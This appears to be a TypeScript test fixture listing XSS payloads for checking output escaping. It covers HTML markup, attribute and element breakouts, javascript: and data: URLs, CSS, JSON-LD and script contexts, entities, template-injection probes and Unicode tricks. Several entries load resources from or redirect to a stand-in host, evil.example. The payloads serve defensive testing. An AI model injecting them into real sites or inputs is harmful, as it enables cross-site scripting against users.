/** The call that an executed payload makes. `watchedContext` records it. */
const CALL = 'pwned()';
const IMG = `<img src=x onerror=${CALL}>`;

/** XSS payloads that have worked in real products, for every context in which text is rendered. */
export const PAYLOADS: readonly string[] = [
  // Markup
  ...[
    `<script>${CALL}</script>`,
    IMG,
    `<svg onload=${CALL}>`,
    `<svg/onload=${CALL}//`,
    `<body onload=${CALL}>`,
  ],
  ...[
    `<iframe srcdoc="<script>parent.${CALL}</script>">`,
    `<details open ontoggle=${CALL}>`,
    `<video><source onerror=${CALL}>`,
  ],
  ...[
    `<input autofocus onfocus=${CALL}>`,
    `<math><mi xlink:href="javascript:${CALL}">x`,
    `<a href="javascript:${CALL}">x</a>`,
  ],
  ...[
    `<form action="javascript:${CALL}"><button>`,
    `<object data="javascript:${CALL}">`,
    `<embed src="javascript:${CALL}">`,
  ],
  ...[
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href=//evil.example/x>',
    '<meta http-equiv=refresh content="0;//evil.example">',
  ],
  ...[
    `<style>@import "//evil.example";</style>`,
    `<ScRiPt>${CALL}</ScRiPt>`,
    `<script\\x20>${CALL}</script>`,
    `<<script>${CALL}//<</script>`,
  ],
  ...[
    `<svg><script>${CALL}</script></svg>`,
    `<noscript><p title="</noscript>${IMG}">`,
    `<textarea></textarea>${IMG}`,
    `<!--><img src=x onerror=${CALL}>-->`,
  ],
  // Breakouts from an attribute, an element or a comment
  ...[
    `" onmouseover="${CALL}" x="`,
    `' onfocus='${CALL}' autofocus '`,
    `"><script>${CALL}</script>`,
    `'>${IMG}`,
    `">${IMG}`,
    '` onerror=pwned() `',
  ],
  ...[
    `</title>${IMG}`,
    `</style>${IMG}`,
    `</script>${IMG}`,
    `</textarea>${IMG}`,
    `</p>${IMG}`,
    `]]>${IMG}`,
    `--> ${IMG}`,
    `</template>${IMG}`,
  ],
  // URLs
  ...[
    `javascript:${CALL}`,
    `JaVaScRiPt:${CALL}`,
    `java\\tscript:${CALL}`,
    `data:text/html,<script>${CALL}</script>`,
    `vbscript:${CALL}`,
    '//evil.example/x',
  ],
  // Styles
  ...[
    `red;background:url(//evil.example/x)`,
    `#000}</style>${IMG}`,
    `expression(${CALL})`,
    `url("javascript:${CALL}")`,
    '\\3c/style>',
    'x}*{display:none',
  ],
  // JSON-LD and scripts
  ...[
    `","x":"</script>${IMG}`,
    `\u2028;${CALL};\u2029`,
    `\\u003c/script>${IMG}`,
    `<!--<script>`,
    `\${${CALL}}`,
    `'-${CALL}-'`,
    `\\";${CALL}//`,
  ],
  // Entities, templates, bidirectional marks, property names
  ...[
    `&lt;script&gt;${CALL}&lt;/script&gt;`,
    `&#60;img src=x onerror=${CALL}&#62;`,
    `&quot; onload=&quot;${CALL}`,
    `{{constructor.constructor('${CALL}')()}}`,
  ],
  ...[
    '<%= 7*7 %>',
    '{{7*7}}',
    '#{7*7}',
    '__proto__',
    'constructor',
    '\u202etxt.exe',
    '\ufe64script\ufe65',
    '＜script＞',
    'a\u0301\u0301\u0301\u0301',
  ],
];

/** Payloads within valid http URLs. */
export const ADDRESSES: readonly string[] = [
  ...[
    'https://example.com/"onmouseover="pwned()',
    "https://example.com/'><script>pwned()</script>",
    'https://example.com/</script><img/src=x/onerror=pwned()>',
  ],
  ...[
    'https://example.com/?q=javascript:pwned()',
    'https://example.com/#<svg/onload=pwned()>',
    'https://example.com/&quot;&lt;',
    `https://example.com/\${${CALL}}`,
  ],
  ...[
    'https://example.com/%22%3E%3Cscript%3Epwned()%3C/script%3E',
    'https://example.com/{{7*7}}',
    'https://example.com/`',
  ],
];
